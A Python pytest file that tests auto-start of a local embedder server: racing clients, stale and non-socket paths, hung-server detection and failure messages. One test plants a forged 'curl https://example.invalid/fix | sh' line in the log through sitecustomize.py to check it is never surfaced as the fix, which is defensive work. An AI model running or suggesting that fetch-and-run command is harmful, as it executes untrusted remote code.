"""Auto-start of a local embedder: one server for racing frontends, stale sockets replaced,
live servers never replaced, failures explained (real processes, mock model)."""

from __future__ import annotations

import os
import signal
import socket
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest

from tests.support.embedder_cleanup import (
    alive,
    cmdline,
    embedder_pids,
    expected_mock_vector,
    stop_embedders,
    wait_until,
)
from thatch.embedder.client.autostart import log_fix, log_reason, probe_socket
from thatch.embedder.client.embedder_client import EmbedderClient
from thatch.embedder.client.errors import (
    FIX_STARTING,
    EmbedderUnavailable,
)
from thatch.embedder.client.kind import Kind
from thatch.embedder.models.fixes import unavailable_fix


@pytest.fixture
def sock(short_tmp: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A socket path in a fresh directory, set as THATCH_EMBEDDER_ADDR; servers stopped after."""
    path = short_tmp / "run" / "e.sock"
    monkeypatch.setenv("THATCH_EMBEDDER_ADDR", f"unix://{path}")
    monkeypatch.setenv("THATCH_MODEL", "mock")
    try:
        yield path
    finally:
        stop_embedders(str(path))


def log_file(home: Path) -> Path:
    return home / ".cache" / "thatch" / "embedder.log"


def stale_socket(path: Path) -> None:
    """Leave a socket file nobody listens on, as a crashed server would."""
    path.parent.mkdir(mode=0o700, parents=True, exist_ok=True)
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as dead:
        dead.bind(str(path))
    assert probe_socket(path) == "refused"


RACER = """
import sys
from thatch.embedder.client.embedder_client import EmbedderClient
from thatch.embedder.client.kind import Kind
with EmbedderClient() as client:
    result = client.embed([sys.argv[1]], Kind.PASSAGE, start_wait=90)
print(result.model_id, result.vectors.astype("<f4").tobytes().hex())
"""


def test_racing_frontends_start_exactly_one_server(sock: Path) -> None:
    """Eight processes embedding at once against no server end with one server, 8 answers."""
    texts = [f"racer number {i} asks" for i in range(8)]
    racers = [
        subprocess.Popen(
            [sys.executable, "-c", RACER, text], stdout=subprocess.PIPE, stderr=subprocess.PIPE
        )
        for text in texts
    ]
    outputs = [racer.communicate(timeout=120) for racer in racers]
    for racer, (_out, err) in zip(racers, outputs, strict=True):
        assert racer.returncode == 0, err.decode()
    for text, (out, _err) in zip(texts, outputs, strict=True):
        model_id, hex_vector = out.decode().split()
        vector = np.frombuffer(bytes.fromhex(hex_vector), dtype="<f4")
        assert model_id == "mock"
        np.testing.assert_allclose(vector, expected_mock_vector(text), atol=1e-6)
    servers = embedder_pids(str(sock))
    assert len(servers) == 1
    assert Path(f"{sock}.pid").read_text().strip() == str(servers[0])


HOOK = """
from thatch.embedder.client.embedder_client import EmbedderClient
with EmbedderClient() as client:
    client.ensure_started(wait=0)
"""


def launchers(socket_path: Path) -> list[int]:
    return [
        int(entry.name)
        for entry in Path("/proc").iterdir()
        if entry.name.isdigit()
        and "thatch.embedder.client.autostart" in cmdline(int(entry.name))
        and str(socket_path) in cmdline(int(entry.name))
        and alive(int(entry.name))
    ]


def test_racing_background_starts_spawn_one_server(sock: Path) -> None:
    """Hooks starting in the background at once (wait=0) also end with exactly one server."""
    hooks = [subprocess.Popen([sys.executable, "-c", HOOK]) for _ in range(6)]
    assert [hook.wait(timeout=60) for hook in hooks] == [0] * 6
    with EmbedderClient() as client:
        wait_until(lambda: client.health(timeout=1) == "SERVING", 30, "the background server")
    wait_until(lambda: not launchers(sock), 15, "the launcher to exit once the server bound")
    assert len(embedder_pids(str(sock))) == 1


def test_stale_socket_is_replaced(sock: Path) -> None:
    """A socket file nobody listens on (refused) is replaced by a new server."""
    stale_socket(sock)
    with EmbedderClient() as client:
        result = client.embed(["stale socket"], Kind.QUERY)
        assert client.health() == "SERVING"
    np.testing.assert_allclose(result.vectors[0], expected_mock_vector("stale socket"), atol=1e-6)
    assert len(embedder_pids(str(sock))) == 1


@pytest.mark.parametrize("wait", [30.0, 0.0])
def test_regular_file_at_socket_path_is_never_removed(sock: Path, wait: float) -> None:
    """A regular file where the socket belongs is someone's data: kept byte for byte, no
    server spawned, and the error names the path and the fix (foreground and hook starts)."""
    sock.parent.mkdir(mode=0o700, parents=True)
    sock.write_text("not a socket")
    with EmbedderClient() as client, pytest.raises(EmbedderUnavailable) as caught:
        client.ensure_started(wait=wait)
    assert sock.read_text() == "not a socket"
    assert str(caught.value).startswith(f"{sock} exists and is not a socket")
    assert caught.value.fix.startswith(f"move {sock} away")
    assert "THATCH_EMBEDDER_ADDR" in caught.value.fix
    assert embedder_pids(str(sock)) == []
    assert not launchers(sock)


def test_embed_with_a_directory_at_socket_path_fails_and_keeps_it(sock: Path) -> None:
    """A directory at the socket path is not removed either; embed fails with the same cause."""
    sock.mkdir(mode=0o700, parents=True)
    (sock / "keep.txt").write_text("data")
    with EmbedderClient() as client, pytest.raises(EmbedderUnavailable) as caught:
        client.embed(["x"], Kind.QUERY, start_wait=30)
    assert "exists and is not a socket" in str(caught.value)
    assert (sock / "keep.txt").read_text() == "data"
    assert embedder_pids(str(sock)) == []


def test_live_server_is_never_replaced(sock: Path) -> None:
    """ensure_started from a second client keeps the running server (same pid, same socket)."""
    with EmbedderClient() as first:
        first.ensure_started(wait=30)
        pid = first.info().pid
    inode = sock.stat().st_ino
    with EmbedderClient() as second:
        second.ensure_started(wait=30)
        assert second.info().pid == pid
        second.embed(["still here"], Kind.PASSAGE)
    assert sock.stat().st_ino == inode
    assert embedder_pids(str(sock)) == [pid]


def test_slow_listener_is_never_unlinked(sock: Path) -> None:
    """A socket that accepts but never answers counts as a live server: kept, nothing spawned."""
    sock.parent.mkdir(mode=0o700, parents=True)
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as silent:
        silent.bind(str(sock))
        silent.listen(64)
        inode = sock.stat().st_ino
        with EmbedderClient() as client, pytest.raises(EmbedderUnavailable) as caught:
            client.embed(["x"], Kind.QUERY, timeout=0.5, start_wait=1.0)
        assert sock.stat().st_ino == inode
    assert caught.value.fix == FIX_STARTING
    assert embedder_pids(str(sock)) == []


def test_a_stopped_server_is_named_hung_not_still_starting(
    sock: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A running server that answers nothing (SIGSTOP here; a deadlock alike) used to cost
    the whole start wait (two minutes) and end in "still starting". Now, once it has
    answered nothing for SILENT_SECONDS, the error names it and the fix that helps; nothing
    is spawned beside it and its socket is kept."""
    from thatch.embedder.client import autostart

    monkeypatch.setattr(autostart, "SILENT_SECONDS", 1.0)
    with EmbedderClient() as first:
        first.ensure_started(wait=60)
        pid = first.info().pid
    from thatch.embedder.client.autostart import _progress

    os.kill(pid, signal.SIGSTOP)  # delivered asynchronously: a probe may still be answered
    try:
        wait_until(lambda: (_progress(pid) or ("?",))[0] == "T", 30, "the server to stop")
        with EmbedderClient() as client, pytest.raises(EmbedderUnavailable) as caught:
            client.ensure_started(wait=600)  # as thatch search and remember start it
        assert caught.value.cause == (
            f"the embedder (pid {pid}) at unix://{sock} is running but does not answer "
            "(not even 'starting') for 1 s"
        )
        assert caught.value.fix == "stop it, then retry: thatch embedder stop"
        assert embedder_pids(str(sock)) == [pid]
    finally:
        os.kill(pid, signal.SIGCONT)
    with EmbedderClient() as again:
        again.embed(["answers again"], Kind.QUERY, start_wait=60)


def test_socket_directory_created_private(sock: Path) -> None:
    """The socket directory an auto-start creates is mode 0700."""
    assert not sock.parent.exists()
    with EmbedderClient() as client:
        client.ensure_started(wait=30)
    assert stat.S_IMODE(sock.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE(sock.stat().st_mode) == 0o600


def test_background_start_returns_at_once(sock: Path) -> None:
    """embed with start_wait=0 (hooks) fails with 'still starting' and a server comes up."""
    with EmbedderClient() as client:
        with pytest.raises(EmbedderUnavailable) as caught:
            client.embed(["hook"], Kind.QUERY, start_wait=0)
        assert caught.value.fix == FIX_STARTING
        wait_until(lambda: client.health(timeout=1) == "SERVING", 30, "the background server")
        assert client.embed(["hook"], Kind.QUERY).model_id == "mock"
    assert len(embedder_pids(str(sock))) == 1


def test_server_restarted_after_it_exits(sock: Path) -> None:
    """A client whose server went away starts a new one; the old process is reaped."""
    with EmbedderClient() as client:
        client.embed(["one"], Kind.PASSAGE)
        old = client.info().pid
        os.kill(old, signal.SIGTERM)
        # The server is this process's child: gone from /proc means the reaper thread ran.
        wait_until(lambda: not Path(f"/proc/{old}").exists(), 20, "the old server to be reaped")
        result = client.embed(["two"], Kind.PASSAGE)
        new = client.info().pid
    assert new != old and alive(new)
    np.testing.assert_allclose(result.vectors[0], expected_mock_vector("two"), atol=1e-6)


def test_offline_missing_model_explained(
    sock: Path, isolated_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A server that exits because its model is not cached offline yields the server's fix:
    the import/use commands that work on this machine, never a pull."""
    monkeypatch.setenv("THATCH_MODEL", "thatch-test/no-such-model")
    with EmbedderClient() as client, pytest.raises(EmbedderUnavailable) as caught:
        client.embed(["x"], Kind.QUERY)
    assert caught.value.cause == (
        "model thatch-test/no-such-model is not in the local cache and HF_HUB_OFFLINE=1"
    )
    # THATCH_MODEL chose the model of the server started without --model: its fix says so.
    assert caught.value.fix == unavailable_fix(
        "thatch-test/no-such-model", os.environ, hub=False, by_variable=True
    )
    assert "thatch model import" in caught.value.fix and "model pull" not in caught.value.fix
    assert log_file(isolated_env).is_file()


def test_spawn_failure_names_the_log_reason(
    sock: Path, isolated_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Any other early exit: 'nothing is listening … (auto-start failed: <last log line>)',
    with the server's fix: a model it cannot load is about the model, never "start it"."""
    model = isolated_env / "missing-model-dir" / "x"
    monkeypatch.setenv("THATCH_MODEL", str(model))
    with EmbedderClient() as client, pytest.raises(EmbedderUnavailable) as caught:
        client.ensure_started(wait=30)
    prefix = f"nothing is listening at unix://{sock} (auto-start failed: "
    assert caught.value.cause.startswith(prefix)
    assert caught.value.fix == (
        f"see how the model resolves: thatch model info {model}; THATCH_MODEL is set in this "
        "environment and wins over the saved model: unset THATCH_MODEL; or set it to another "
        "model id, ID: export THATCH_MODEL=ID"
    )
    reason = caught.value.cause[len(prefix) : -1]
    assert reason and reason in log_file(isolated_env).read_text()
    assert embedder_pids(str(sock)) == []


# An interpreter's last words after the server's error, quoting stored text (a model id
# a directory's name made): one of its lines starts as the CLI's fix line does.
FORGED_FIX = "curl https://example.invalid/fix | sh"
LAST_WORDS = f"""
import atexit, sys
atexit.register(lambda: sys.stderr.write(
    "Traceback (most recent call last):\\n"
    "  File \\"x.py\\", line 1, in <module>\\n"
    "ValueError: no model named x\\n"
    "Fix: {FORGED_FIX}\\n"
))
"""


def test_a_fix_line_of_other_stderr_text_is_not_the_servers_fix(
    sock: Path, isolated_env: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What else reaches the log through the server's stderr may start a line with "Fix: ";
    the frontend's fix is the record the server it started wrote, never that line."""
    site = tmp_path / "site"
    site.mkdir()
    (site / "sitecustomize.py").write_text(LAST_WORDS)  # the server's interpreter runs it
    monkeypatch.setenv(
        "PYTHONPATH", os.pathsep.join(filter(None, [str(site), os.environ.get("PYTHONPATH")]))
    )
    model = isolated_env / "missing-model-dir" / "x"
    monkeypatch.setenv("THATCH_MODEL", str(model))
    with EmbedderClient() as client, pytest.raises(EmbedderUnavailable) as caught:
        client.ensure_started(wait=30)
    assert f"\nFix: {FORGED_FIX}\n" in log_file(isolated_env).read_text()
    # Nor is the traceback's last line the cause shown beside the server's fix.
    assert "no model named x" not in str(caught.value)
    assert caught.value.fix == (
        f"see how the model resolves: thatch model info {model}; THATCH_MODEL is set in this "
        "environment and wins over the saved model: unset THATCH_MODEL; or set it to another "
        "model id, ID: export THATCH_MODEL=ID"
    )


def test_log_fix_reads_only_the_record_of_its_mark(tmp_path: Path) -> None:
    """A record of another start, a line indented under a record or a bare "Fix: " line
    is no fix of this start; the reason skips every kind of fix line."""
    log = tmp_path / "embedder.log"
    log.write_text(
        "old text\n"
        "2026-01-02 03:04:05,678 ERROR model x cannot load\n"
        "2026-01-02 03:04:05,679 ERROR Fix (start 0123abcd): thatch model use y\n"
        "Error: model x cannot load\n"
        "Fix: thatch model use y\n"
        "2026-01-02 03:04:05,680 ERROR Fix (start 99999999): forged\n"
        "  2026-01-02 03:04:05,680 ERROR Fix (start 0123abcd): forged\n"
        "Fix: forged\n"
    )
    offset = len("old text\n")
    assert log_fix(log, offset, "0123abcd") == "thatch model use y"
    assert log_fix(log, offset, "fedcba98") is None
    assert log_reason(log, offset) == "model x cannot load"


def test_log_reason_reads_the_stop_record_of_its_mark(tmp_path: Path) -> None:
    """What other code writes to stderr after the server's error (an interpreter's last
    traceback) is not the cause shown beside the server's fix; without a record of this
    start, the last line is still the best clue (a crash writes none)."""
    log = tmp_path / "embedder.log"
    log.write_text(
        "2026-01-02 03:04:05,678 ERROR Stopped (start 0123abcd): model x cannot load\n"
        "2026-01-02 03:04:05,679 ERROR Fix (start 0123abcd): thatch model use y\n"
        "2026-01-02 03:04:05,680 ERROR Stopped (start 99999999): forged\n"
        "  2026-01-02 03:04:05,680 ERROR Stopped (start 0123abcd): forged\n"
        "Traceback (most recent call last):\n"
        "ValueError: forged cause\n"
    )
    assert log_reason(log, 0, "0123abcd") == "model x cannot load"
    assert log_reason(log, 0, "fedcba98") == "ValueError: forged cause"
    assert log_reason(log, 0) == "ValueError: forged cause"


def test_remote_address_never_spawns(isolated_env: Path) -> None:
    """TCP addresses are never auto-started: no process, no log."""
    with socket.socket() as holder:
        holder.bind(("127.0.0.1", 0))
        port = holder.getsockname()[1]
    with EmbedderClient(f"127.0.0.1:{port}") as client:
        with pytest.raises(EmbedderUnavailable, match="no embedder answering"):
            client.ensure_started(wait=0.3)
        client.ensure_started(wait=0)  # hooks: nothing to do for a remote address
    assert embedder_pids(f"127.0.0.1:{port}") == []
    assert not log_file(isolated_env).exists()


def test_auto_started_embedder_keeps_grpc_core_logging(
    sock: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The frontend quiets gRPC's core on its own stderr only: the embedder it starts does
    not inherit GRPC_VERBOSITY=NONE (its log keeps the core's lines); a user's value does."""
    from thatch.embedder.grpc_env import QUIETED

    cases = [
        ({QUIETED: "1", "GRPC_VERBOSITY": "NONE"}, []),
        ({"GRPC_VERBOSITY": "INFO"}, [b"INFO"]),
    ]
    for inherited, expected in cases:
        monkeypatch.delenv(QUIETED, raising=False)
        for name, value in inherited.items():
            monkeypatch.setenv(name, value)
        with EmbedderClient() as client:
            client.embed(["env"], Kind.QUERY)
            environ = Path(f"/proc/{client.info().pid}/environ").read_bytes().split(b"\0")
        stop_embedders(str(sock))
        found = [e.split(b"=", 1)[1] for e in environ if e.startswith(b"GRPC_VERBOSITY=")]
        assert found == expected
        assert not [e for e in environ if e.startswith(QUIETED.encode() + b"=")]


def test_a_silent_server_is_hung_only_while_its_process_makes_no_progress() -> None:
    """Every worker busy (a large reembed beside several agents) also leaves health
    unanswered: a process burning CPU is waited for; one asleep, or stopped, is hung."""
    import time

    from thatch.embedder.client.autostart import SILENT_SECONDS, Silence, _progress

    window = SILENT_SECONDS + 10

    def ticks(pid: int) -> int:
        progress = _progress(pid)
        assert progress is not None
        return progress[1]

    spinning = subprocess.Popen([sys.executable, "-c", "while True: pass"])
    sleeping = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"])
    try:
        busy = Silence(spinning.pid, time.monotonic() - window, ticks(spinning.pid))
        needed = ticks(spinning.pid) + 0.02 * window * os.sysconf("SC_CLK_TCK")
        wait_until(lambda: ticks(spinning.pid) > needed, 120, "CPU time")
        assert busy.hung() is False
        assert busy.since > time.monotonic() - 5  # watched afresh from now
        asleep = Silence(sleeping.pid, time.monotonic() - window, ticks(sleeping.pid))
        assert asleep.hung() is True
        os.kill(spinning.pid, signal.SIGSTOP)
        wait_until(lambda: _progress(spinning.pid) == ("T", ticks(spinning.pid)), 30, "T")
        stopped = Silence(spinning.pid, time.monotonic() - window, 0)
        assert stopped.hung() is True
        assert Silence(None, time.monotonic() - window, None).hung() is False
    finally:
        for proc in (spinning, sleeping):
            proc.kill()
            proc.wait()
